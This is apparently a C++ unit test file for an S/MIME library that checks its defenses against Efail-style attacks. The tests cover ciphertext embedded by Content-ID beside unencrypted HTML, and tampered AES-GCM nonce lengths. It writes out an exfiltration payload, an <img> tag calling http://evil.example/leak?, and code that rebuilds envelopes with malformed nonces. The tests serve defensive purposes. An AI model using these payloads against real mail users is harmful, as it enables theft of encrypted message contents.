// Encryption attacks ("Efail", USENIX Security 2018) that the older tests do not already
// cover. Those are mapped in docs/security.md, "Encryption": efail_layout_test.cpp (direct
// exfiltration, replies, alternatives, forwarded ciphertext), auth_enveloped_tamper_test.cpp
// (GCM ciphertext, tag, nonce, tag length, attributes, downgrade), cbc_malleability_test.cpp
// (CBC gadgets), encrypt_then_sign_test.cpp and key_transport_test.cpp. Added here: the
// ciphertext pulled into an HTML page by its Content-ID, and a GCM nonce of another length.
#include <gtest/gtest.h>

#include <string>

#include "attack_support.h"

namespace smimekit::security {
namespace {

TEST(SecurityAttackEncryption, CiphertextPulledInByCidReference) {
  // multipart/related: eve's HTML embeds alice's ciphertext for bob by its Content-ID, in an
  // <img> whose URL the plaintext would complete.
  const std::string victim =
      encrypt(secret_message(), {demo_certificate("bob"), demo_certificate("alice")});
  const std::string message =
      outer("Eve Test <eve@example.org>", "multipart/related; type=\"text/html\"; boundary=\"r\"") +
      "--r\n"
      "Content-Type: text/html; charset=us-ascii\n"
      "\n"
      "<img src=\"http://evil.example/leak?\"><object data=\"cid:secret@evil.example\"></object>\n"
      "--r\n"
      "Content-ID: <secret@evil.example>\n" +
      content_entity(victim) + "--r--\n";
  const Report r = open_message(message, {demo_identity("bob")});
  EXPECT_TRUE(r.partially_encrypted) << dump(r);
  EXPECT_FALSE(r.encrypted) << dump(r);
  EXPECT_NE(r.verdict, Verdict::Valid) << dump(r);
  EXPECT_TRUE(has_reason(r,
                         "part 2 is encrypted but sits beside unencrypted content; it was not "
                         "decrypted"))
      << dump(r);
  EXPECT_EQ(dump(r).find(kSecret), std::string::npos) << dump(r);
  EXPECT_TRUE(r.decrypted_message.empty());
  const CliDecrypt d = cli_decrypt(message, p12_args("bob"));
  expect_cli_refused(d, "cid", true);
}

// AES-256-GCM for bob with the nonce (GCMParameters' aes-nonce) made NEW_LENGTH bytes long.
std::string with_nonce_length(std::size_t new_length) {
  const std::string message = encrypt(secret_message(), {demo_certificate("bob")});
  const std::string der = message_der(message);
  const EnvelopeFields f = locate_envelope(der);
  std::string nonce = contents(der, *f.nonce);
  nonce.resize(new_length, '\0');
  const std::string params = encode_tlv(0x30, encode_tlv(0x04, nonce) + whole(der, *f.icv_len));
  const std::string algorithm = encode_tlv(0x30, whole(der, f.algorithm_oid) + params);
  const std::string aeci =
      encode_tlv(0x30, whole(der, f.content_type) + algorithm + whole(der, f.encrypted_content));
  return with_der(message, rebuild_envelope(der, f,
                                            {whole(der, f.version), whole(der, f.recipient_infos),
                                             aeci, whole(der, *f.mac)}));
}

TEST(SecurityAttackEncryption, GcmNonceOfAnotherLength) {
  // The control: the rebuilt message with the nonce left at 12 bytes opens.
  const Report same = open_message(with_nonce_length(12), {demo_identity("bob")});
  ASSERT_TRUE(same.encrypted) << dump(same);
  for (std::size_t length : {16u, 8u, 11u, 13u}) {
    const std::string tampered = with_nonce_length(length);
    const std::string what = "nonce of " + std::to_string(length) + " bytes";
    const Report r = open_message(tampered, {demo_identity("bob")});
    expect_refused(r, what);
    EXPECT_EQ(r.verdict, Verdict::Invalid) << dump(r);
    expect_cli_refused(cli_decrypt(tampered, p12_args("bob")), what);
  }
}

}  // namespace
}  // namespace smimekit::security
